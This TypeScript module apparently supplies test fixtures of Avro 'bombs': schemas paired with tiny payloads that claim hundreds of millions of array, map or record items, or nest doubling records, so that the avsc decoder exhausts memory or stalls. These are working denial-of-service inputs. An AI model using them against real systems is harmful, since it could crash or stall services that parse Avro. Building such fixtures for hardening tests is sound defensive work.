/** A few bytes, and the schema under which they cost far more than they weigh. */
export interface Bomb {
  readonly schema: object
  readonly payload: Buffer
}

/** Avro's zigzag varint of a whole number. */
export function varint(value: number): Buffer {
  const bytes: number[] = []
  let rest = value < 0 ? -2n * BigInt(value) - 1n : 2n * BigInt(value)
  do {
    bytes.push(Number(rest & 0x7fn) | (rest > 0x7fn ? 0x80 : 0))
    rest >>= 7n
  } while (rest > 0n)
  return Buffer.from(bytes)
}

/** A record with one field, `x`. */
export function recordOf(type: unknown): object {
  return { type: 'record', name: 'Bomb', fields: [{ name: 'x', type }] }
}

const arrayOf = (items: unknown): object => recordOf({ type: 'array', items })
const padding = Buffer.alloc(9)

/** A chain of records, each holding the next one twice, that ends in nulls: no bytes, 2²⁸ values. */
function doubling(): object {
  let inner: unknown = 'null'
  for (let level = 0; level < 28; level += 1) {
    const name = `L${level.toString()}`
    const fields = [
      { name: 'a', type: inner },
      { name: 'b', type: level === 0 ? 'null' : `L${(level - 1).toString()}` },
    ]
    inner = { type: 'record', name, fields }
  }
  return recordOf(inner)
}

/** Each of these makes avsc end the process, or run for many seconds. */
export const bombs: Readonly<Record<string, Bomb>> = {
  'an array block of 400 million ints in 15 bytes': {
    schema: arrayOf('int'),
    payload: Buffer.concat([varint(400_000_000), padding, Buffer.of(0)]),
  },
  'an array block of 400 million records in 15 bytes': {
    schema: arrayOf({ type: 'record', name: 'Part', fields: [{ name: 'n', type: 'long' }] }),
    payload: Buffer.concat([varint(400_000_000), padding, Buffer.of(0)]),
  },
  'an array block with a negative count and a size': {
    schema: arrayOf('string'),
    payload: Buffer.concat([varint(-400_000_000), varint(9), padding]),
  },
  'a map block of 400 million ints in 15 bytes': {
    schema: recordOf({ type: 'map', values: 'int' }),
    payload: Buffer.concat([varint(400_000_000), padding, Buffer.of(0)]),
  },
  'an array of 100 million nulls in 6 bytes': {
    schema: arrayOf('null'),
    payload: Buffer.concat([varint(100_000_000), Buffer.of(0, 0)]),
  },
  'an array of 100 million empty records in 6 bytes': {
    schema: arrayOf({ type: 'record', name: 'Nothing', fields: [] }),
    payload: Buffer.concat([varint(100_000_000), Buffer.of(0, 0)]),
  },
  'arrays in arrays, each claiming what the outer one allows': {
    schema: arrayOf({ type: 'array', items: 'null' }),
    payload: Buffer.concat([
      varint(100),
      ...Array.from({ length: 100 }, () => Buffer.concat([varint(1_000_000), Buffer.of(0)])),
      Buffer.of(0),
    ]),
  },
  'records that take no bytes and double at each level': {
    schema: doubling(),
    payload: Buffer.alloc(0),
  },
}
